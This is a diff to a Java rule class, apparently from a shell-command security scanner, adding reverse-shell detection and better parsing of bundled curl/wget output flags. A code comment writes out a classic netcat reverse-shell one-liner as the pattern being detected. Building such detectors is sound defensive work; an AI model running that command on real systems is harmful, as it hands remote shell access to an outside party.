@@ -52,10 +52,19 @@ final class RemoteRules implements Family {
         lastReader = i;
       }
     }
+    int firstReader = -1;
+    for (int i = 0; i < steps.size() && firstReader < 0; i++) {
+      firstReader = readsCodeFromInput(steps.get(i)) ? i : -1;
+    }
     Set<String> downloaded = new HashSet<>();
     for (int i = 0; i < steps.size(); i++) {
       Step step = steps.get(i);
       reverseShell(scan, step);
+      if (firstReader >= 0 && firstReader < i && readsNetwork(step) && !local(step)) {
+        // cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f: a shell's input and output through a
+        // network connection, the best-known reverse shell.
+        scan.hit(REVERSE_SHELL, step, null);
+      }
       if (lastReader > i && decodes(step)) {
         scan.hit(DECODED_TO_SHELL, step, null);
       }
@@ -108,8 +117,16 @@ final class RemoteRules implements Family {
     for (int i = 0; i < args.size(); i++) {
       String t = args.get(i).text();
       String next = i + 1 < args.size() ? args.get(i + 1).text() : null;
+      char output = step.program().equals("wget") ? 'O' : 'o';
+      int bundled = t.startsWith("-") && !t.startsWith("--") ? t.indexOf(output) : -1;
       if ((t.equals("-o") || t.equals("--output")) && next != null) {
         files.add(base(next));
+      } else if (bundled > 1 && (step.program().equals("curl") || step.program().equals("wget"))) {
+        // -sSLo FILE, -qO FILE, -oFILE: the option last in a bundle takes the next word.
+        String file = bundled + 1 < t.length() ? t.substring(bundled + 1) : next;
+        if (file != null && !file.equals("-")) {
+          files.add(base(file));
+        }
       } else if (t.equals("-O") && step.program().equals("wget") && next != null) {
         files.add(base(next));
       } else if (t.startsWith("--output-document=") || t.startsWith("--output=")) {
